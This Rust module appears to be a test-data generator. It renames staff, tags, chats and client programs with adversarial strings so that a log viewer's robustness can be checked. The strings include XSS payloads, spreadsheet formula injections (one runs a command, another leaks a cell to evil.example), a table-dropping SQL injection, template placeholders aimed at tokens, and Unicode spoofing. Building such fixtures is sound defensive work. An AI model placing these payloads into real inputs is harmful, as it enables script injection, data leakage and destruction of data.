//! Texts that want to be more than text: what somebody with an account can call themselves, their chats and their
//! programs, to deceive whoever reads the log.

use super::chat::Chat;
use super::people::Staff;
use super::tag::Tag;
use crate::texts::Texts;

/// Markup, formulas, mentions and formatting, letters that turn their neighbours round or cannot be seen, control
/// characters, letters under towers of accents, and a name that is read from the right.
const TEXTS: [&str; 15] = [
    "<img src=x onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "\"><svg onload=document.title='owned'>",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "@all @here @admin",
    "**bold** [link](https://evil.example) `code` <@1>",
    "\u{202e}nimda\u{202d}",
    "\u{2066}\u{2067}unclosed",
    "Ив\u{200b}ан\u{feff} П\u{ad}анов",
    "tab\tline\nnull\u{0}bell\u{7}",
    "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}a\u{300}\u{301}\u{302}\u{303}\u{304}",
    "{{ app.token }} ${token} %s %n {0}",
    "'; DROP TABLE events; --",
    "מנהל 7",
];

/// The longest name of all, in letters.
const LONGEST: usize = 200_000;

/// Renames every third person, every second chat and tag, and every third program.
pub(crate) fn spread(staff: &mut Staff, chats: &mut [Chat], tags: &mut [Tag], texts: &mut Texts) {
    let mut next = TEXTS.iter().cycle();
    let mut draw = || next.next().copied().unwrap_or_default().to_owned();
    for person in staff.people.iter_mut().step_by(3) {
        person.first_name = draw();
    }
    for tag in tags.iter_mut().step_by(2) {
        tag.name = draw();
    }
    for chat in chats.iter_mut().filter(|chat| !chat.personal).step_by(2) {
        chat.name = draw();
    }
    if let Some(chat) = chats.iter_mut().filter(|chat| !chat.personal).nth(1) {
        chat.name = "Ы".repeat(LONGEST);
    }
    texts.rename_clients(|index, client| if index % 3 == 0 { draw() } else { client.to_owned() });
}
